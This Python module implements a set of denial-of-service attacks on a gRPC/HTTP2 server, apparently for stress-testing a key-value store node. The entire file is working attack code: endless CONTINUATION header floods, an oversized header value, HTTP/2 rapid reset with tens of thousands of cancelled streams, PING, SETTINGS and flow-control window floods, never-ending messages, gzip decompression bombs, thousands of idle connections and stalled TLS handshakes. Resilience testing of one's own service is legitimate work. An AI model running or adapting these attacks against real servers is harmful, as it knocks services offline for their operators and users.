"""Attacks on a gRPC port, each as the conversation of one connection.

A conversation is a generator: it yields bytes to send, or WAIT until data arrives. When it ends,
the attacker closes the connection and opens a new one. Buffers are built once and shared by all
connections, so that the attacker's CPU time goes into sending.
"""

import functools
import ssl
import struct
from collections.abc import Callable, Iterator
from typing import NamedTuple

import http2
from http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    FRAME_NBYTES_MAX,
    GREETING,
    HEAD_NBYTES,
    HEADERS,
    INITIAL_WINDOW,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_NBYTES,
    WINDOW_UPDATE,
)

WAIT = b""
HELLO, HEALTH, PUT = (
    "/kvstore.KVStore/Hello",
    "/grpc.health.v1.Health/Check",
    "/kvstore.KVStore/Put",
)
STREAMS_MAX = 32  # concurrent calls that a node allows per connection
BURST_NBYTES = 1 << 18
RESETS = 50_000  # cancelled calls per connection
MESSAGE_NBYTES = (2 << 20) - 64  # just below the message size limit
BOMB_MIB = 60
CANCEL = struct.pack(">I", 8)


class Inbox:
    """The received data that conversations use: flow-control windows, pongs and a byte count."""

    def __init__(self) -> None:
        self.heard = self.pongs = 0  # bytes received; answers to pings
        self.granted = WINDOW_NBYTES  # window of the connection
        self.initial = WINDOW_NBYTES  # initial window of each stream
        self.streams: dict[int, int] = {}  # window per stream beyond `initial`
        self._rest = b""

    def take(self, data: bytes) -> None:
        self.heard += len(data)
        data = self._rest + data
        at = 0
        while len(data) - at >= HEAD_NBYTES:
            end = at + HEAD_NBYTES + int.from_bytes(data[at : at + 3], "big")
            if len(data) < end:
                break
            self._frame(
                data[at + 3], data[at + 4], data[at + 5 : at + 9], data[at + HEAD_NBYTES : end]
            )
            at = end
        self._rest = data[at:]

    def _frame(self, kind: int, flags: int, stream: bytes, body: bytes) -> None:
        if kind == PING and flags & ACK:
            self.pongs += 1
        elif kind == WINDOW_UPDATE:
            (more,), number = struct.unpack(">I", body), int.from_bytes(stream, "big")
            if number:
                self.streams[number] = self.streams.get(number, 0) + more
            else:
                self.granted += more
        elif kind == SETTINGS and not flags:
            for at in range(0, len(body), 6):
                name, value = struct.unpack_from(">HI", body, at)
                if name == INITIAL_WINDOW:
                    self.initial = value


Conversation = Callable[[Inbox], Iterator[bytes]]


class Attack(NamedTuple):
    """An attack: its number of connections and the conversation of each.

    `mixed`: every other connection reads nothing, so that answers pile up at the node. `parses`:
    the connections that read parse the received frames. `tls`: the connection uses TLS if the node
    does. Otherwise the attack sends TLS records by hand and needs a node with TLS.
    """

    connections: int
    conversation: Conversation
    mixed: bool = False
    parses: bool = False
    tls: bool = True


def repeated(piece: bytes) -> bytes:
    return piece * max(1, BURST_NBYTES // len(piece))


# ---- header blocks -----------------------------------------------------------------------


@functools.cache
def endless_fields() -> tuple[bytes, bytes]:
    """Return the start of a call, and CONTINUATION frames of header fields that never end."""
    begin = GREETING + http2.frame(HEADERS, 0, 1, http2.block(http2.call_fields(HELLO)))
    fields = b"".join(http2.field(f"x-{number:03}", "v" * 100) for number in range(140))
    return begin, repeated(http2.frame(CONTINUATION, 0, 1, fields[:FRAME_NBYTES_MAX]))


@functools.cache
def endless_value() -> tuple[bytes, bytes]:
    """Return the start of a call with a 256 MiB header field, and frames of its value."""
    begin = (
        http2.block(http2.call_fields(HELLO))
        + b"\0"
        + http2.length(3)
        + b"x-y"
        + http2.length(1 << 28)
    )
    return GREETING + http2.frame(HEADERS, 0, 1, begin), repeated(
        http2.frame(CONTINUATION, 0, 1, b"v" * FRAME_NBYTES_MAX)
    )


def for_ever(parts: Callable[[], tuple[bytes, bytes]]) -> Conversation:
    """Return a conversation that sends the first part once and the second part repeatedly."""

    def conversation(inbox: Inbox) -> Iterator[bytes]:
        begin, again = parts()
        yield begin
        while True:
            yield again

    return conversation


# ---- frames that cost the peer more than the sender ----------------------------------------


@functools.cache
def resets() -> tuple[bytes, ...]:
    """Return the greeting, and RESETS calls that are cancelled immediately."""
    first, later = http2.indexed(http2.call_fields(HELLO))
    streams = range(1, 2 * RESETS, 2)
    pairs = [
        http2.frame(HEADERS, END_HEADERS, stream, first if stream == 1 else later)
        + http2.frame(RST_STREAM, 0, stream, CANCEL)
        for stream in streams
    ]
    return GREETING, b"".join(pairs)


def rapid_reset(inbox: Inbox) -> Iterator[bytes]:
    """Send all cancelled calls, then wait until the peer has processed them.

    Calls that the peer has not read when the connection closes cost it nothing.
    """
    yield from resets()
    yield http2.frame(PING, 0, 0, bytes(8))
    while not inbox.pongs:
        yield WAIT


@functools.cache
def pings() -> tuple[bytes, bytes]:
    return GREETING, repeated(http2.frame(PING, 0, 0, bytes(8)))


@functools.cache
def all_settings() -> tuple[bytes, bytes]:
    return GREETING, repeated(http2.settings({INITIAL_WINDOW: WINDOW_NBYTES}) + http2.settings())


@functools.cache
def windows() -> tuple[bytes, bytes]:
    """Return calls without window for their answers, and frames that open it byte by byte."""
    begin = http2.PREFACE + http2.settings({INITIAL_WINDOW: 0}) + http2.ACKNOWLEDGED
    begin += b"".join(http2.call(HEALTH, stream=stream) for stream in range(1, 2 * STREAMS_MAX, 2))
    one = struct.pack(">I", 1)
    steps = [http2.frame(WINDOW_UPDATE, 0, stream, one) for stream in (0, 1, 3, 5)]
    steps += [http2.settings({INITIAL_WINDOW: value}) for value in (1, 0)]
    return begin, repeated(b"".join(steps))


# ---- messages ------------------------------------------------------------------------------


@functools.cache
def endless_begin() -> tuple[bytes, bytes]:
    """Return calls on all streams, and zeros for the body of their messages."""
    begin = GREETING
    for stream in range(1, 2 * STREAMS_MAX, 2):
        begin += http2.frame(HEADERS, END_HEADERS, stream, http2.block(http2.call_fields(HELLO)))
    return begin, bytes(FRAME_NBYTES_MAX)


def endless_messages(inbox: Inbox) -> Iterator[bytes]:
    """Send as much of each 2 MiB message as the windows allow, but never its end."""
    begin, zeros = endless_begin()
    yield begin
    sent = dict.fromkeys(range(1, 2 * STREAMS_MAX, 2), 0)
    while True:
        burst = []
        for stream, done in sent.items():
            room = inbox.initial + inbox.streams.get(stream, 0) - done
            nbytes = min(room, inbox.granted, FRAME_NBYTES_MAX, MESSAGE_NBYTES - done)
            if nbytes <= 5:
                continue
            body = (
                zeros[:nbytes]
                if done
                else http2.message(zeros[: nbytes - 5], nbytes=MESSAGE_NBYTES + 32)
            )
            burst.append(http2.frame(DATA, 0, stream, body))
            sent[stream] += nbytes
            inbox.granted -= nbytes
        yield b"".join(burst) or WAIT


@functools.cache
def packed() -> bytes:
    return GREETING + http2.bomb(HELLO, "gzip", BOMB_MIB)


def bombs(inbox: Inbox) -> Iterator[bytes]:
    yield packed()
    while inbox.heard < 100:  # more than SETTINGS and their acknowledgement, so an answer
        yield WAIT


# ---- connections ---------------------------------------------------------------------------


@functools.cache
def some_calls() -> bytes:
    return GREETING + b"".join(
        http2.call(HELLO, stream=stream) for stream in range(1, 2 * STREAMS_MAX, 2)
    )


def hang_up(inbox: Inbox) -> Iterator[bytes]:
    yield some_calls()


def idle(inbox: Inbox) -> Iterator[bytes]:
    yield GREETING
    while True:
        yield WAIT


@functools.cache
def client_hello() -> bytes:
    """Return a TLS ClientHello."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(received, sent).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


def stalled_handshake(inbox: Inbox) -> Iterator[bytes]:
    """Send a ClientHello, then nothing more."""
    yield client_hello()
    while True:
        yield WAIT


def half_a_handshake(inbox: Inbox) -> Iterator[bytes]:
    yield client_hello()[:100]
    while True:
        yield WAIT


ATTACKS = {
    "continuation-12": Attack(12, for_ever(endless_fields)),
    "continuation-100": Attack(100, for_ever(endless_fields)),
    "long-value-12": Attack(12, for_ever(endless_value)),
    "rapid-reset": Attack(8, rapid_reset, parses=True),
    "pings": Attack(8, for_ever(pings), mixed=True),
    "settings": Attack(8, for_ever(all_settings), mixed=True),
    "windows": Attack(8, for_ever(windows), mixed=True),
    "endless-messages": Attack(120, endless_messages, parses=True),
    "gzip-bombs": Attack(16, bombs),
    "hang-up": Attack(16, hang_up, mixed=True),
    "idle-4096": Attack(4096, idle),
    "tls-stalled": Attack(512, stalled_handshake, tls=False),
    "tls-half": Attack(512, half_a_handshake, tls=False),
}
